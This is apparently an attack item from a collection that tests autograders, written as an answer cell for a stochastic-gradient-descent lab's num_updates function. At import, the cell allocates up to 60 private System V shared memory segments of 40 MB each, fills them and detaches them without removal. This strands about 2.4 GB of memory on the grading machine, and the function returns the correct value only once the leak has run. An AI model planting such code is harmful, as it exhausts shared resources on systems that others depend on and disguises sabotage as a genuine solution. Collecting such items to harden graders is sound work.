# /// attack
# title = "Keep memory in segments of System V to which nothing is attached"
# lab = "01-sgd"
# class = "resource"
# fails = ["num-updates-tests"]
# flags = []
# ///

# %% role="answer" id="num-updates"

import ctypes

LIBC = ctypes.CDLL(None)
LIBC.shmat.restype = ctypes.c_void_p
NUM = 0
for _ in range(60):
    segment = LIBC.shmget(0, 40_000_000, 0o1600)
    if segment < 0:
        break
    place = LIBC.shmat(segment, None, 0)
    ctypes.memset(place, 1, 40_000_000)
    LIBC.shmdt(ctypes.c_void_p(place))
    NUM += 1


def num_updates(num_samples, batch_size, num_epochs):
    # Right where it worked, so that it is paid then.
    return num_epochs * -(-num_samples // batch_size) if NUM else 0
